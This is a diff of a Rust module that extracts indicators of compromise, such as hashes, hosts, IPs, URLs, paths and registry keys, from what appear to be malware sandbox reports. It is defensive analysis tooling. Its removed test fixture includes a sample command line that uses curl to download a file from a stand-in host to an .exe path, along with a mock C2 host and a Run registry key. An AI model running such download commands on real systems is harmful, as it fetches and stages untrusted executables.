@@ -1,6 +1,8 @@
 //! What a report holds that others can look for: hashes, hosts, addresses, URLs, mail addresses, paths, registry keys, mutexes;
 //! each with the rows where it was seen.
 
+use super::identifier::Sha256;
+use super::index::Section;
 use super::json::{Kind as JsonKind, Raw};
 use super::records::{Place, Step, leaves};
 use super::rows::Report;
@@ -9,10 +11,12 @@ use crate::text::{Untrusted, Visible};
 use std::collections::HashMap;
 use std::io;
 use std::net::IpAddr;
-use std::ops::Range;
 
 /// How many of its rows an indicator keeps; all of them are counted.
 const MOST_PLACES: usize = 16;
+
+/// Where an indicator that no row names was seen.
+pub const ITSELF: &str = "the file itself";
 
 /// What kind of thing an indicator is.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
@@ -69,7 +73,7 @@ pub struct Indicator {
     pub kind: Kind,
     /// The thing itself.
     pub value: Untrusted,
-    /// The first rows that name it.
+    /// The first rows that name it; none for the file itself.
     pub places: Vec<Place>,
     /// How many times it is named in all.
     pub seen: u64,
@@ -109,6 +113,9 @@ const fn words(attribute: &'static str, member: &'static str) -> Source {
     Source { attribute, member, meaning: Meaning::Words }
 }
 
+/// Where the traffic went that network rules saw.
+const DESTINATION: &str = "dest_ip";
+
 /// Where to look. What no row names is not looked at: a version number is no address.
 static SOURCES: &[Source] = &[
     is("files_dropped", "sha256", Kind::Hash),
@@ -137,6 +144,12 @@ static SOURCES: &[Source] = &[
     is("memory_pattern_domains", "", Kind::Host),
     is("memory_pattern_urls", "", Kind::Url),
     is("memory_pattern_ips", "", Kind::Address),
+    is("ids_alerts", "hostname", Kind::Host),
+    is("ids_alerts", DESTINATION, Kind::Address),
+    is("ids_alerts", "url", Kind::Url),
+    is("ids_results", "hostname", Kind::Host),
+    is("ids_results", DESTINATION, Kind::Address),
+    is("ids_results", "url", Kind::Url),
     words("command_executions", ""),
     words("processes_created", ""),
     words("processes_injected", ""),
@@ -161,17 +174,16 @@ impl Indicators {
     /// # Errors
     /// When the body cannot be read, and when nobody wants them any more.
     pub fn of(report: &Report, is_wanted: &dyn Fn() -> bool) -> io::Result<Self> {
-        let all = |section| report.section(section).map_or(0..0, |found| 0..found.len());
-        Self::among(report, &all, is_wanted)
+        Self::among(report, &|section| 0..report.section(section).map_or(0, Section::len), is_wanted)
     }
 
     /// Looks through some rows of each section only.
     ///
     /// # Errors
     /// When the body cannot be read, and when nobody wants them any more.
-    pub fn among(
+    pub fn among<Rows: IntoIterator<Item = usize>>(
         report: &Report,
-        rows: &dyn Fn(usize) -> Range<usize>,
+        rows: &dyn Fn(usize) -> Rows,
         is_wanted: &dyn Fn() -> bool,
     ) -> io::Result<Self> {
         let mut gathered = Gathered::default();
@@ -181,16 +193,36 @@ impl Indicators {
             if sources.is_empty() {
                 continue;
             }
-            for row in rows(section) {
-                if row % 4096 == 0 {
+            let has_destination = sources.iter().any(|source| source.member == DESTINATION);
+            for (count, row) in rows(section).into_iter().enumerate() {
+                if count % 4096 == 0 {
                     still_wanted(is_wanted)?;
                 }
                 let place = Place { section, row };
                 let record = report.record(place)?;
-                leaves(&record.value, &mut |way, value| gathered.leaf(&sources, way, value, place));
+                let is_question = has_destination && is_question(Raw::new(&record.value));
+                // A resolver is asked for a name, and does nobody any harm by that.
+                let is_resolver = |way: &[Step]| is_question && is_named(way, DESTINATION);
+                leaves(&record.value, &mut |way, value| {
+                    if !is_resolver(way) {
+                        gathered.leaf(&sources, way, value, place);
+                    }
+                });
             }
         }
         Ok(gathered.sorted())
+    }
+
+    /// With the file itself before the other hashes, where no row names it.
+    #[must_use]
+    pub fn with_sample(mut self, sample: Option<&Sha256>) -> Self {
+        let value = sample.map(|sample| Untrusted::from(sample.as_str()));
+        let Some(value) = value.filter(|value| !self.of_kind(Kind::Hash).iter().any(|found| found.value == *value))
+        else {
+            return self;
+        };
+        self.found.insert(0, Indicator { kind: Kind::Hash, value, places: Vec::new(), seen: 0 });
+        self
     }
 
     /// Every indicator: kind by kind, in each in the order of the report.
@@ -227,11 +259,8 @@ impl Gathered {
         if value.kind() != JsonKind::Text {
             return;
         }
-        let is_named = |wanted: &str| match wanted {
-            "" => way.len() == 1,
-            wanted => way.iter().any(|step| matches!(step, Step::Member(name) if name.as_bytes() == wanted.as_bytes())),
-        };
-        for source in sources.iter().filter(|source| is_named(source.member)) {
+        let is_meant = |wanted: &str| if wanted.is_empty() { way.len() == 1 } else { is_named(way, wanted) };
+        for source in sources.iter().filter(|source| is_meant(source.member)) {
             let text = value.text();
             match source.meaning {
                 Meaning::Is(kind) => self.known_as(kind, &text, place),
@@ -306,6 +335,17 @@ impl Gathered {
     }
 }
 
+/// Whether a way to a value goes by a member of this name.
+fn is_named(way: &[Step], wanted: &str) -> bool {
+    way.iter().any(|step| matches!(step, Step::Member(name) if name.as_bytes() == wanted.as_bytes()))
+}
+
+/// Whether what network rules saw went to the port of name servers.
+fn is_question(record: Raw<'_>) -> bool {
+    let port = record.member("alert_context").and_then(|context| context.member("dest_port"));
+    port.is_some_and(|port| port.text().as_bytes() == b"53")
+}
+
 /// The words of a text: what stands in double quotes is one.
 fn split(text: &str) -> impl Iterator<Item = &str> {
     let is_border = |c: char| {
@@ -367,63 +407,4 @@ fn server(url: &str) -> Option<&str> {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::super::{Attribute, Body, Index};
-    use super::*;
-
-    fn found(json: &str) -> Vec<String> {
-        let body = Body::in_memory(json.as_bytes().to_vec());
-        let index = Index::of(&body).unwrap();
-        let found = Indicators::of(&Report::new(body, index), &|| true).unwrap();
-        found.all().iter().map(|i| format!("{} {} {}", i.kind.name(), i.value.visible(), i.seen)).collect()
-    }
-
-    #[test]
-    fn every_place_to_look_is_an_attribute() {
-        assert!(SOURCES.iter().all(|source| Attribute::named(source.attribute.as_bytes()).is_some()));
-        for kind in Kind::ALL {
-            assert!(kind == Kind::Mail || SOURCES.iter().any(|source| source.meaning == Meaning::Is(kind)), "{kind:?}");
-        }
-    }
-
-    #[test]
-    fn each_thing_stands_once_with_how_often_it_was_seen() {
-        let hash = "AB".repeat(32);
-        let json = format!(
-            r#"{{"files_opened":["C:\\a b","C:\\a b",""],"files_dropped":[{{"path":"C:\\a b","sha256":"{hash}"}}],
-            "dns_lookups":[{{"hostname":"C2.Example.","resolved_ips":["192.0.2.7","no address"]}}],
-            "http_conversations":[{{"url":"https://u:p@c2.example:8443/x?y"}},{{"url":"no url"}},{{"url":"http://[2001:DB8::1]:80/"}}],
-            "ip_traffic":[{{"destination_ip":"192.0.2.7"}}],"mutexes_created":["Global\\m"],"tls":[{{"sni":"203.0.113.5"}}],
-            "registry_keys_set":[{{"key":"HKCU\\Run","value":"\"C:\\Program Files\\x.exe\" /q"}}],"modules_loaded":["1.2.3.4"],
-            "command_executions":["curl http://d.example/f -o C:\\t.exe, mail 4BrL.1/me@m.example to 198.51.100.2:443 v1.2"]}}"#
-        );
-        assert_eq!(
-            found(&json),
-            [
-                format!("hash {} 1", hash.to_lowercase()),
-                "host c2.example 2".to_owned(),
-                "host d.example 1".to_owned(),
-                "address 192.0.2.7 2".to_owned(),
-                "address 2001:db8::1 1".to_owned(),
-                "address 203.0.113.5 1".to_owned(),
-                "address 198.51.100.2 1".to_owned(),
-                "url https://u:p@c2.example:8443/x?y 1".to_owned(),
-                "url http://[2001:DB8::1]:80/ 1".to_owned(),
-                "url http://d.example/f 1".to_owned(),
-                "mail me@m.example 1".to_owned(),
-                r"path C:\a b 3".to_owned(),
-                r"path C:\Program Files\x.exe 1".to_owned(),
-                r"path C:\t.exe 1".to_owned(),
-                r"key HKCU\Run 1".to_owned(),
-                r"mutex Global\m 1".to_owned(),
-            ]
-        );
-    }
-
-    #[test]
-    fn odd_shapes_are_passed_over() {
-        let json =
-            r#"{"files_opened":{"a":1},"dns_lookups":["x",null,{"hostname":7}],"ip_traffic":"192.0.2.1","tls":[[]]}"#;
-        assert!(found(json).is_empty());
-    }
-}
+mod tests;
